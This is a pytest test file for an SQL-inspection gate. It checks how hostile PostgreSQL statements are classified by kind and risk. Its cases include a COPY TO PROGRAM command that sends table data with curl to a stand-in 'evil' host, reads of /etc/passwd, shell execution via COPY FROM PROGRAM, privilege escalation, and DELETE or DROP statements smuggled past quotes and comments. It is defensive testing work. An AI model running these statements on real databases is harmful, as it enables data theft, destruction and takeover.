"""SQL classification (issue 2): hostile SQL against the real pglast parser, no mocks."""

from __future__ import annotations

import dataclasses
import json
from importlib import resources

import pytest

from mcp_gate.inspect import pg_functions
from mcp_gate.inspect.model import Risk, SqlInspection, SqlKind
from mcp_gate.inspect.pg_functions import classify_function, dangerous_reason
from mcp_gate.inspect.sql import KIND_RANK, inspect_sql, strictest

K = SqlKind
R = Risk


@dataclasses.dataclass(frozen=True)
class Case:
    sql: str
    kind: SqlKind
    risks: frozenset[Risk] = frozenset()
    read: frozenset[str] | None = None
    written: frozenset[str] | None = None
    functions: frozenset[str] | None = None
    kinds: tuple[SqlKind, ...] | None = None


def case(sql, kind, risks=(), read=None, written=None, functions=None, kinds=None, id=None):
    c = Case(
        sql,
        kind,
        frozenset(risks),
        None if read is None else frozenset(read),
        None if written is None else frozenset(written),
        None if functions is None else frozenset(functions),
        None if kinds is None else tuple(kinds),
    )
    return pytest.param(c, id=id or sql[:60])


CASES = [
    # --- plain reads ---------------------------------------------------------------------
    case("SELECT 1", K.SELECT, read=(), written=()),
    case(
        "SELECT id, email FROM users WHERE id = 42",
        K.SELECT,
        read={"public.users"},
        written=(),
    ),
    case(
        "select * from hr.payroll p join users u on u.id = p.uid",
        K.SELECT,
        read={"hr.payroll", "public.users"},
    ),
    case("VALUES (1), (2)", K.SELECT),
    case("TABLE users", K.SELECT, read={"public.users"}),
    case("SELECT 1 UNION SELECT 2 EXCEPT SELECT 3", K.SELECT),
    case('SELECT "ünïcødé" FROM "Tåble"', K.SELECT, read={"public.Tåble"}),
    case('SELECT U&"d\\0061t\\+000061" FROM U&"t\\0061b"', K.SELECT, read={"public.tab"}),
    case('SELECT * FROM "Users", users', K.SELECT, read={"public.Users", "public.users"}),
    # comments and quoting hide nothing
    case("/* x */ DELETE FROM t", K.DELETE, {R.NO_WHERE}, written={"public.t"}),
    case("-- c\nDROP TABLE t", K.DDL, written={"public.t"}),
    case("/* DELETE FROM t */ SELECT 1 -- ; DROP TABLE t", K.SELECT),
    case("SELECT /* nested /* comment */ ; DROP TABLE t */ 1", K.SELECT),
    # the `;` is inside the comment: one SELECT, with `delete` as a column alias
    case(
        "SELECT 1 -- DROP;\nDELETE FROM t WHERE id = 1",
        K.SELECT,
        read={"public.t"},
        kinds=(K.SELECT,),
    ),
    case("SELECT $$;DELETE FROM t;$$, $a$ DROP TABLE x; $a$", K.SELECT, read=(), written=()),
    case("SELECT $f$ $$ ; $$ DELETE $f$", K.SELECT),
    case("SELECT E'\\';DELETE FROM t;--'", K.SELECT, read=(), written=()),
    # with standard_conforming_strings (the default) a backslash does not escape a quote
    case(
        "SELECT '\\';DELETE FROM t;--'",
        K.DELETE,
        {R.MULTI_STATEMENT, R.NO_WHERE},
        written={"public.t"},
        kinds=(K.SELECT, K.DELETE),
    ),
    # --- multi-statement -----------------------------------------------------------------
    case(
        "SELECT 1; DROP TABLE t",
        K.DDL,
        {R.MULTI_STATEMENT},
        written={"public.t"},
        kinds=(K.SELECT, K.DDL),
    ),
    case("SELECT 1;", K.SELECT, kinds=(K.SELECT,)),
    # `select` promises one plain read: a batch of reads is not one
    case("SELECT 1; SELECT 2", K.OTHER, {R.MULTI_STATEMENT}, kinds=(K.SELECT, K.SELECT)),
    case(
        "BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT",
        K.UPDATE,
        {R.MULTI_STATEMENT},
        kinds=(K.TRANSACTION, K.UPDATE, K.TRANSACTION),
    ),
    case("SELECT 1; SET ROLE admin", K.SESSION, {R.MULTI_STATEMENT}),
    case("GRANT ALL ON t TO x; DELETE FROM t WHERE id = 1", K.PRIVILEGE, {R.MULTI_STATEMENT}),
    # --- DML -----------------------------------------------------------------------------
    case("UPDATE t SET a = 1", K.UPDATE, {R.NO_WHERE}, written={"public.t"}),
    case("UPDATE t SET a = 1 WHERE true", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE 1=1", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE 't'", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE 'true'::boolean", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE NOT false", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE NOT (1 = 2)", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE 'a' <> 'b'", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE 2 > 1", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE 1 = '1'", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE id = id", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE t.id IS NOT DISTINCT FROM t.id", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE id = 5 OR true", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE 1 = 1 AND true", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE 1 IS NOT NULL", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE true IS TRUE", K.UPDATE, {R.NO_WHERE}),
    case("UPDATE t SET a = 1 WHERE id = 5 AND 1 = 1", K.UPDATE, written={"public.t"}),
    case("UPDATE t SET a = 1 WHERE false", K.UPDATE),
    case("UPDATE t SET a = 1 WHERE id = 7", K.UPDATE, written={"public.t"}, read=()),
    case(
        "UPDATE t SET a = u.a FROM u WHERE u.id = t.id",
        K.UPDATE,
        read={"public.u"},
        written={"public.t"},
    ),
    case("DELETE FROM t WHERE id = 1", K.DELETE, written={"public.t"}),
    case("DELETE FROM t", K.DELETE, {R.NO_WHERE}),
    case("DELETE FROM t USING u", K.DELETE, {R.NO_WHERE}, read={"public.u"}),
    case("DELETE FROM t WHERE CURRENT OF c", K.DELETE, written={"public.t"}),
    case("DELETE FROM s.t WHERE id = 1", K.DELETE, written={"s.t"}),
    case("INSERT INTO t VALUES (1)", K.INSERT, written={"public.t"}),
    case("INSERT INTO t SELECT * FROM s", K.INSERT, read={"public.s"}, written={"public.t"}),
    case(
        "INSERT INTO t (id, a) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = excluded.a",
        K.INSERT,
        written={"public.t"},
    ),
    case(
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
        "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)",
        K.MERGE,
        read={"public.s"},
        written={"public.t"},
    ),
    # --- data-modifying CTEs -------------------------------------------------------------
    case(
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        K.DELETE,
        {R.WRITE_IN_CTE, R.NO_WHERE},
        read=(),
        written={"public.t"},
    ),
    case(
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT pg_sleep(1) FROM d",
        K.DELETE,
        {R.WRITE_IN_CTE, R.DANGEROUS_FUNCTION},
    ),
    case(
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        K.DELETE,
        {R.WRITE_IN_CTE},
    ),
    case(
        "WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT count(*) FROM u",
        K.UPDATE,
        {R.WRITE_IN_CTE},
    ),
    case(
        "WITH i AS (INSERT INTO log VALUES (1) RETURNING id) SELECT * FROM i",
        K.INSERT,
        {R.WRITE_IN_CTE},
        written={"public.log"},
    ),
    case(
        "WITH d AS (DELETE FROM a WHERE x = 1 RETURNING *) INSERT INTO b SELECT * FROM d",
        K.DELETE,
        {R.WRITE_IN_CTE},
        written={"public.a", "public.b"},
    ),
    case(
        "WITH a AS (SELECT 1), b AS (WITH c AS (UPDATE t SET x = 1 RETURNING 1) "
        "SELECT * FROM c) SELECT * FROM b",
        K.UPDATE,
        {R.WRITE_IN_CTE, R.NO_WHERE},
    ),
    # CTE scope: names in scope are not relations; a CTE body does not see itself
    case(
        "WITH users AS (SELECT * FROM users) SELECT * FROM users JOIN orders ON true",
        K.SELECT,
        read={"public.users", "public.orders"},
    ),
    case(
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
        K.SELECT,
        read=(),
    ),
    case(
        "WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM b",
        K.SELECT,
        read={"public.b"},
    ),
    case(
        "(WITH x AS (SELECT 1) SELECT * FROM x) UNION SELECT * FROM x", K.SELECT, read={"public.x"}
    ),
    # a DML target never resolves to a CTE
    case("WITH t AS (SELECT 1) DELETE FROM t WHERE a = 1", K.DELETE, written={"public.t"}),
    # --- SELECT INTO, locking ------------------------------------------------------------
    case(
        "SELECT * INTO newtable FROM t",
        K.DDL,
        {R.SELECT_INTO},
        read={"public.t"},
        written={"public.newtable"},
    ),
    case("SELECT 1 INTO TEMP x UNION SELECT 2", K.DDL, {R.SELECT_INTO}, written={"pg_temp.x"}),
    case("SELECT * FROM t FOR UPDATE", K.OTHER, {R.LOCKING}, read={"public.t"}),
    case("SELECT * FROM t FOR SHARE", K.OTHER, {R.LOCKING}),
    case("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", K.OTHER, {R.LOCKING}),
    case("SELECT * FROM t FOR KEY SHARE NOWAIT", K.OTHER, {R.LOCKING}),
    case("SELECT * FROM t a FOR UPDATE OF a", K.OTHER, {R.LOCKING}, read={"public.t"}),
    case("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", K.OTHER, {R.LOCKING}),
    case("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", K.OTHER, {R.LOCKING}, read={"public.t"}),
    # --- EXPLAIN -------------------------------------------------------------------------
    case("EXPLAIN SELECT 1", K.EXPLAIN, risks=()),
    case("EXPLAIN SELECT * FROM users", K.EXPLAIN, read={"public.users"}),
    case("EXPLAIN DELETE FROM t", K.EXPLAIN, read={"public.t"}, written=()),
    case(
        "EXPLAIN ANALYZE DELETE FROM t",
        K.DELETE,
        {R.DANGEROUS_FUNCTION, R.NO_WHERE},
        written={"public.t"},
    ),
    case(
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1",
        K.UPDATE,
        {R.DANGEROUS_FUNCTION},
        written={"public.t"},
    ),
    case(
        "EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d",
        K.DELETE,
        {R.DANGEROUS_FUNCTION, R.NO_WHERE, R.WRITE_IN_CTE},
    ),
    case("EXPLAIN ANALYZE SELECT 1", K.EXPLAIN, {R.DANGEROUS_FUNCTION}),
    case("EXPLAIN ANALYZE SELECT pg_sleep(1)", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("EXPLAIN SELECT * FROM t FOR UPDATE", K.EXPLAIN, read={"public.t"}),
    case("EXPLAIN (ANALYZE true) SELECT 1", K.EXPLAIN, {R.DANGEROUS_FUNCTION}),
    case("EXPLAIN (ANALYZE off) DELETE FROM t", K.EXPLAIN, written=()),
    case("EXPLAIN (ANALYZE 0, VERBOSE) DELETE FROM t", K.EXPLAIN, written=()),
    case("EXPLAIN ANALYZE SELECT * INTO x FROM t", K.DDL, {R.DANGEROUS_FUNCTION, R.SELECT_INTO}),
    # --- session / transaction -----------------------------------------------------------
    case("SET ROLE admin", K.SESSION),
    case("SET SESSION AUTHORIZATION x", K.SESSION),
    case("RESET ROLE", K.SESSION),
    case("SET statement_timeout = '1s'", K.SESSION),
    case("SET LOCAL search_path = evil, public", K.SESSION),
    case("SET TRANSACTION READ WRITE", K.SESSION),
    case("SHOW search_path", K.SESSION),
    case("RESET ALL", K.SESSION),
    case("DISCARD ALL", K.SESSION),
    case("LISTEN x", K.SESSION),
    case("UNLISTEN *", K.SESSION),
    case("NOTIFY x, 'payload'", K.SESSION, {R.DANGEROUS_FUNCTION}),
    case("PREPARE p AS SELECT * FROM t WHERE id = $1", K.SESSION, read={"public.t"}),
    case("PREPARE p AS DELETE FROM t", K.SESSION, {R.NO_WHERE}, written={"public.t"}),
    case("EXECUTE p(1)", K.SESSION, {R.DANGEROUS_FUNCTION}),
    case("DEALLOCATE ALL", K.SESSION),
    case("DECLARE c CURSOR FOR SELECT * FROM t", K.SESSION, read={"public.t"}),
    case("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t FOR UPDATE", K.SESSION, {R.LOCKING}),
    case("FETCH 10 FROM c", K.SESSION),
    case("MOVE NEXT IN c", K.SESSION),
    case("CLOSE c", K.SESSION),
    case("BEGIN", K.TRANSACTION),
    case("START TRANSACTION READ WRITE", K.TRANSACTION),
    case("COMMIT", K.TRANSACTION),
    case("ROLLBACK", K.TRANSACTION),
    case("SAVEPOINT s", K.TRANSACTION),
    case("RELEASE SAVEPOINT s", K.TRANSACTION),
    case("ROLLBACK TO SAVEPOINT s", K.TRANSACTION),
    case("PREPARE TRANSACTION 'x'", K.TRANSACTION),
    case("COMMIT PREPARED 'x'", K.TRANSACTION),
    case("SET CONSTRAINTS ALL DEFERRED", K.TRANSACTION),
    # --- COPY ----------------------------------------------------------------------------
    case("COPY t TO STDOUT", K.COPY, read={"public.t"}, written=()),
    case("COPY t FROM STDIN", K.COPY, written={"public.t"}),
    case("COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)", K.COPY, read={"public.users"}),
    case("COPY t TO PROGRAM 'curl -d @- http://evil'", K.COPY, {R.DANGEROUS_FUNCTION}),
    case("COPY t FROM PROGRAM 'id'", K.COPY, {R.DANGEROUS_FUNCTION}, written={"public.t"}),
    case("COPY t FROM '/etc/passwd'", K.COPY, {R.DANGEROUS_FUNCTION}, written={"public.t"}),
    case("COPY t TO '/tmp/out.csv'", K.COPY, {R.DANGEROUS_FUNCTION}, read={"public.t"}),
    case("COPY (DELETE FROM t RETURNING *) TO STDOUT", K.COPY, {R.NO_WHERE}, written={"public.t"}),
    # --- CALL / DO -----------------------------------------------------------------------
    case("DO $$BEGIN DELETE FROM t; END$$", K.CALL, {R.DANGEROUS_FUNCTION}),
    case("DO LANGUAGE plpgsql $$BEGIN PERFORM 1; END$$", K.CALL, {R.DANGEROUS_FUNCTION}),
    case("CALL proc()", K.CALL, {R.DANGEROUS_FUNCTION, R.UNKNOWN_FUNCTION}, functions={"proc"}),
    case(
        "CALL s.proc(now())",
        K.CALL,
        {R.DANGEROUS_FUNCTION, R.UNKNOWN_FUNCTION},
        functions={"s.proc", "pg_catalog.now"},
    ),
    # --- DDL -----------------------------------------------------------------------------
    case(
        "CREATE TABLE t (id int PRIMARY KEY, u int REFERENCES users(id))",
        K.DDL,
        read={"public.users"},
        written={"public.t"},
    ),
    case("CREATE TEMP TABLE t (a int)", K.DDL, written={"pg_temp.t"}),
    case(
        "CREATE TABLE t AS SELECT * FROM users", K.DDL, read={"public.users"}, written={"public.t"}
    ),
    case("CREATE MATERIALIZED VIEW m AS SELECT 1", K.DDL, written={"public.m"}),
    case(
        "CREATE VIEW v AS SELECT * FROM users", K.DDL, read={"public.users"}, written={"public.v"}
    ),
    case("ALTER TABLE t ADD COLUMN c text", K.DDL, written={"public.t"}),
    case("ALTER TABLE t RENAME TO u", K.DDL, written={"public.t"}),
    case("DROP TABLE a.b, c", K.DDL, written={"a.b", "public.c"}),
    case("DROP TABLE IF EXISTS t CASCADE", K.DDL, written={"public.t"}),
    case("DROP SCHEMA s CASCADE", K.DDL),
    case("DROP DATABASE d", K.DDL),
    case("TRUNCATE t", K.DDL, written={"public.t"}),
    case("TRUNCATE a, s.b RESTART IDENTITY CASCADE", K.DDL, written={"public.a", "s.b"}),
    case(
        "CREATE INDEX ON t (lower(email))",
        K.DDL,
        written={"public.t"},
        functions={"pg_catalog.lower"},
    ),
    case("COMMENT ON TABLE t IS 'x'", K.DDL),
    case("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", K.DDL),
    case("CREATE EXTENSION dblink", K.DDL),
    case("CREATE SCHEMA s CREATE TABLE t (a int)", K.DDL, written={"s.t"}),
    case("CREATE SCHEMA AUTHORIZATION bob CREATE VIEW v AS SELECT 1", K.DDL, written={"bob.v"}),
    case("REFRESH MATERIALIZED VIEW m", K.DDL, written={"public.m"}),
    case("CREATE SEQUENCE s", K.DDL, written={"public.s"}),
    case(
        "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
        K.DDL,
        written={"public.t"},
    ),
    # --- privilege -----------------------------------------------------------------------
    case("GRANT SELECT ON t TO x", K.PRIVILEGE, written={"public.t"}),
    case("GRANT ALL ON ALL TABLES IN SCHEMA public TO x", K.PRIVILEGE),
    case("REVOKE SELECT ON t FROM PUBLIC", K.PRIVILEGE),
    case("GRANT admin TO agent", K.PRIVILEGE),
    case("CREATE ROLE x LOGIN SUPERUSER PASSWORD 'p'", K.PRIVILEGE),
    case("CREATE USER x", K.PRIVILEGE),
    case("ALTER ROLE x SUPERUSER", K.PRIVILEGE),
    case("ALTER ROLE x SET search_path = evil", K.PRIVILEGE),
    case("DROP ROLE x", K.PRIVILEGE),
    case("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x", K.PRIVILEGE),
    case("REASSIGN OWNED BY a TO b", K.PRIVILEGE),
    case("DROP OWNED BY a", K.PRIVILEGE),
    case("SECURITY LABEL FOR anon ON COLUMN t.c IS 'MASKED WITH VALUE NULL'", K.PRIVILEGE),
    case("ALTER TABLE t OWNER TO x", K.PRIVILEGE),
    case("ALTER TABLE t DISABLE ROW LEVEL SECURITY", K.PRIVILEGE),
    case("ALTER FUNCTION f() OWNER TO x", K.PRIVILEGE),
    case("CREATE POLICY p ON t USING (true)", K.PRIVILEGE),
    case("DROP POLICY p ON t", K.PRIVILEGE),
    # --- other ---------------------------------------------------------------------------
    case("CHECKPOINT", K.OTHER),
    case("VACUUM", K.OTHER),
    case("VACUUM FULL ANALYZE t", K.OTHER, read={"public.t"}),
    case("ANALYZE t", K.OTHER),
    case("CLUSTER t USING i", K.OTHER),
    case("REINDEX TABLE t", K.OTHER),
    case("ALTER SYSTEM SET work_mem = '1GB'", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("LOAD 'evil.so'", K.OTHER, {R.DANGEROUS_FUNCTION}),
    # --- functions -----------------------------------------------------------------------
    case(
        "SELECT pg_read_file('/etc/passwd')",
        K.OTHER,
        {R.DANGEROUS_FUNCTION},
        functions={"pg_catalog.pg_read_file"},
    ),
    case(
        "select PG_CATALOG.pg_sleep(10)",
        K.OTHER,
        {R.DANGEROUS_FUNCTION},
        functions={"pg_catalog.pg_sleep"},
    ),
    case(
        "SELECT query_to_xml('select * from users', true, true, '')",
        K.OTHER,
        {R.DANGEROUS_FUNCTION},
        functions={"pg_catalog.query_to_xml"},
    ),
    case("SELECT table_to_xml('users', true, false, '')", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT database_to_xmlschema(true, false, '')", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case(
        "select lo_import('/etc/passwd')",
        K.OTHER,
        {R.DANGEROUS_FUNCTION},
        functions={"pg_catalog.lo_import"},
    ),
    case("SELECT loread(lo_open(1, 262144), 100)", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT * FROM pg_ls_dir('.')", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case(
        "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
        K.OTHER,
        {R.DANGEROUS_FUNCTION},
        functions={"dblink"},
    ),
    case("SELECT public.dblink_exec('x')", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT set_config('role', 'admin', false)", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT nextval('s')", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT txid_current()", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT pg_current_xact_id()", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT pg_advisory_lock(1)", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT pg_notify('c', 'x')", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT pg_terminate_backend(1)", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case("SELECT pg_reload_conf()", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case(
        "SELECT pg_create_logical_replication_slot('s', 'pgoutput')",
        K.OTHER,
        {R.DANGEROUS_FUNCTION},
    ),
    case(
        "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)",
        K.OTHER,
        {R.DANGEROUS_FUNCTION},
    ),
    case("SELECT ts_stat('select v from t')", K.OTHER, {R.DANGEROUS_FUNCTION}),
    case('SELECT "PG_SLEEP"(1)', K.OTHER, {R.DANGEROUS_FUNCTION}, functions={"PG_SLEEP"}),
    case(
        "SELECT pg_catalog.lower('X'), upper('y'), now(), random(), gen_random_uuid()",
        K.SELECT,
        risks=(),
        functions={
            "pg_catalog.lower",
            "pg_catalog.upper",
            "pg_catalog.now",
            "pg_catalog.random",
            "pg_catalog.gen_random_uuid",
        },
    ),
    case(
        "SELECT count(*), sum(x), string_agg(y, ',') OVER () FROM t",
        K.SELECT,
        functions={"pg_catalog.count", "pg_catalog.sum", "pg_catalog.string_agg"},
    ),
    case(
        "SELECT substring('abc' from 1 for 2), extract(year from now()), "
        "trim(both 'x' from 'xax'), now() at time zone 'utc'",
        K.SELECT,
        risks=(),
    ),
    case("SELECT current_setting('work_mem'), pg_relation_size('t')", K.SELECT, risks=()),
    case("SELECT my_udf(1)", K.SELECT, {R.UNKNOWN_FUNCTION}, functions={"my_udf"}),
    case("SELECT public.lower('x')", K.SELECT, {R.UNKNOWN_FUNCTION}, functions={"public.lower"}),
    case("SELECT \"LOWER\"('x')", K.SELECT, {R.UNKNOWN_FUNCTION}, functions={"LOWER"}),
    case("SELECT * FROM my_srf(1) s", K.SELECT, {R.UNKNOWN_FUNCTION}, read=()),
    case(
        "SELECT * FROM ROWS FROM (generate_series(1, 2), my_srf()) AS x",
        K.SELECT,
        {R.UNKNOWN_FUNCTION},
        functions={"pg_catalog.generate_series", "my_srf"},
    ),
    # --- system catalogs -----------------------------------------------------------------
    case("SELECT * FROM pg_shadow", K.SELECT, {R.SYSTEM_CATALOG}, read={"pg_catalog.pg_shadow"}),
    case("SELECT usename FROM pg_user", K.SELECT, {R.SYSTEM_CATALOG}, read={"pg_catalog.pg_user"}),
    case(
        "SELECT * FROM information_schema.tables",
        K.SELECT,
        {R.SYSTEM_CATALOG},
        read={"information_schema.tables"},
    ),
    case("SELECT * FROM tables", K.SELECT, read={"public.tables"}),
    case("SELECT * FROM pg_toast.pg_toast_1259", K.SELECT, {R.SYSTEM_CATALOG}),
    case(
        "SELECT query FROM pg_stat_activity",
        K.SELECT,
        {R.SYSTEM_CATALOG},
        read={"pg_catalog.pg_stat_activity"},
    ),
    case("SELECT * FROM pg_stat_get_activity(NULL)", K.SELECT, {R.SYSTEM_CATALOG}),
    case("SELECT * FROM pg_hba_file_rules()", K.SELECT, {R.SYSTEM_CATALOG}),
    case(
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        K.OTHER,
        {R.DANGEROUS_FUNCTION, R.SYSTEM_CATALOG},
    ),
    case("WITH pg_user AS (SELECT 1) SELECT * FROM pg_user", K.SELECT, read=()),
]


@pytest.mark.parametrize("c", CASES)
def test_classification(c: Case) -> None:
    r = inspect_sql(c.sql)
    assert r.error is None, r.error
    assert r.kind is c.kind, (r.kind, r.details)
    assert r.risks == c.risks, (sorted(r.risks), r.details)
    assert r.text == c.sql
    if c.read is not None:
        assert r.relations_read == c.read
    if c.written is not None:
        assert r.relations_written == c.written
    if c.functions is not None:
        assert r.functions == c.functions
    if c.kinds is not None:
        assert r.kinds == c.kinds
    assert r.statement_count == len(r.kinds) >= 1
    if r.statement_count > 1 and strictest(r.kinds) is K.SELECT:
        assert r.kind is K.OTHER  # a batch of reads is not a plain read
    else:
        assert r.kind == strictest(r.kinds)
    # every finding is explained to the human who reads `mcp-gate policy test`
    if r.risks:
        assert r.details


UNPARSEABLE = [
    pytest.param("", id="empty"),
    pytest.param(";;", id="semicolons"),
    pytest.param("   \n\t ", id="whitespace"),
    pytest.param("-- only a comment", id="comment"),
    pytest.param("/* unterminated", id="unterminated-comment"),
    pytest.param("SELEC 1", id="typo"),
    pytest.param("SELECT 1 FROM", id="truncated"),
    pytest.param("DELETE FROM t WHERE", id="truncated-delete"),
    pytest.param("SELECT 'unterminated", id="unterminated-string"),
    pytest.param("SELECT $$ unterminated", id="unterminated-dollar"),
    pytest.param("SELECT 1\x00; DROP TABLE t", id="nul-byte"),
    pytest.param("\x00", id="nul-only"),
    pytest.param("SELECT '\ud800'", id="lone-surrogate"),
    pytest.param("SELECT 1; SELEC 2", id="second-statement-invalid"),
    pytest.param("SELECT " + "+".join(["1"] * 3000), id="too-deep"),
]


@pytest.mark.parametrize("sql", UNPARSEABLE)
def test_unparseable(sql: str) -> None:
    r = inspect_sql(sql)
    assert r.kind is K.OTHER
    assert r.risks == {R.UNPARSEABLE}
    assert r.error
    assert r.details and r.error in r.details[0]
    assert r.text == sql
    assert r.statement_count == 0 and r.kinds == ()
    assert not r.relations and not r.functions


def test_parse_error_names_message_and_position() -> None:
    r = inspect_sql("SELECT 1 FORM t")
    assert r.error is not None
    assert 'syntax error at or near "t"' in r.error
    assert "at character 15" in r.error


def test_nul_byte_never_truncates_the_statement() -> None:
    # libpg_query reads C strings: without the check only `SELECT 1` would be seen.
    r = inspect_sql("SELECT 1\x00; DROP TABLE t")
    assert r.kind is K.OTHER and "NUL" in (r.error or "")


def test_size_limit() -> None:
    assert inspect_sql("SELECT 1", max_bytes=8).kind is K.SELECT
    r = inspect_sql("SELECT 1", max_bytes=7)
    assert r.risks == {R.UNPARSEABLE} and "larger than 7 bytes" in (r.error or "")
    # bytes, not characters: 'é' is two bytes in UTF-8
    assert inspect_sql("SELECT 'éé'", max_bytes=13).kind is K.SELECT
    assert inspect_sql("SELECT 'éé'", max_bytes=12).risks == {R.UNPARSEABLE}


def test_huge_in_list_is_classified() -> None:
    sql = "SELECT * FROM users WHERE id IN (" + ",".join(map(str, range(30_000))) + ")"
    r = inspect_sql(sql)
    assert r.kind is K.SELECT and r.risks == frozenset()
    assert r.relations_read == {"public.users"}


def test_one_megabyte_literal_then_delete() -> None:
    sql = "SELECT '" + "x;DELETE FROM t;" * 65_536 + "'; DELETE FROM t"
    assert len(sql) > 1_000_000
    r = inspect_sql(sql)
    assert r.kinds == (K.SELECT, K.DELETE)
    assert r.kind is K.DELETE
    assert r.risks == {R.MULTI_STATEMENT, R.NO_WHERE}


def test_never_raises_on_non_strings() -> None:
    for bad in (None, b"SELECT 1", 42, ["SELECT 1"]):
        r = inspect_sql(bad)  # type: ignore[arg-type]
        assert r.kind is K.OTHER and r.risks == {R.UNPARSEABLE}


def test_details_are_readable() -> None:
    r = inspect_sql("COPY t TO PROGRAM 'curl http://evil'")
    assert any("PROGRAM runs a shell command" in d for d in r.details)
    r = inspect_sql("SELECT pg_read_file('/etc/passwd')")
    assert any(d.startswith("pg_catalog.pg_read_file: ") and "files" in d for d in r.details)
    r = inspect_sql("EXPLAIN ANALYZE DELETE FROM t")
    assert any("executes" in d for d in r.details)
    assert any("delete" in d for d in r.details)
    r = inspect_sql("UPDATE t SET a = 1 WHERE 1 = 1")
    assert any("always-true WHERE" in d and "public.t" in d for d in r.details)
    r = inspect_sql("SELECT 1; DROP TABLE t")
    assert r.details[0].startswith("2 statements (select, ddl)")


def test_columns_best_effort() -> None:
    r = inspect_sql("SELECT u.email, name, u.* FROM users u WHERE s.t.c = 1 ORDER BY 1")
    assert r.columns == {"u.email", "name", "s.t.c"}


def test_relation_case_and_quoting_kept() -> None:
    r = inspect_sql('SELECT * FROM "MySchema"."MyTable", MySchema.MyTable')
    assert r.relations_read == {"MySchema.MyTable", "myschema.mytable"}


def test_original_text_is_kept_verbatim() -> None:
    sql = "  select   1 -- trailing\n"
    assert inspect_sql(sql).text == sql


def test_result_is_the_model_type() -> None:
    r = inspect_sql("SELECT 1")
    assert isinstance(r, SqlInspection)
    assert isinstance(r.relations_read, frozenset) and isinstance(r.functions, frozenset)
    assert all(isinstance(k, SqlKind) for k in r.kinds)


def test_kind_rank_is_total_and_documented_order() -> None:
    assert set(KIND_RANK) == set(SqlKind)
    order = sorted(SqlKind, key=KIND_RANK.__getitem__)
    assert order[0] is K.SELECT and order[-1] is K.PRIVILEGE
    for weaker, stronger in [
        (K.SELECT, K.EXPLAIN),
        (K.SESSION, K.INSERT),
        (K.INSERT, K.UPDATE),
        (K.UPDATE, K.DELETE),
        (K.DELETE, K.COPY),
        (K.CALL, K.OTHER),
        (K.OTHER, K.DDL),
        (K.DDL, K.PRIVILEGE),
    ]:
        assert KIND_RANK[weaker] < KIND_RANK[stronger]
    assert strictest([]) is K.OTHER


# --- pg_functions ------------------------------------------------------------------------


def test_catalog_json_is_package_data() -> None:
    text = resources.files("mcp_gate.inspect").joinpath("pg_catalog.json").read_text("utf-8")
    data = json.loads(text)
    assert set(data) == {"functions", "postgres_version", "relations"}
    # deterministic: sorted keys and lists, compact separators, one trailing newline
    assert text == json.dumps(data, sort_keys=True, separators=(",", ":")) + "\n"
    for names in data["relations"].values():
        assert names == sorted(names)
    assert set(data["functions"].values()) <= {"i", "s", "v"}


def test_catalog_contents() -> None:
    assert {"pg_shadow", "pg_user", "pg_stat_activity", "pg_class", "pg_authid"} <= (
        pg_functions.PG_CATALOG_RELATIONS
    )
    assert {"tables", "columns", "routines"} <= pg_functions.INFORMATION_SCHEMA_RELATIONS
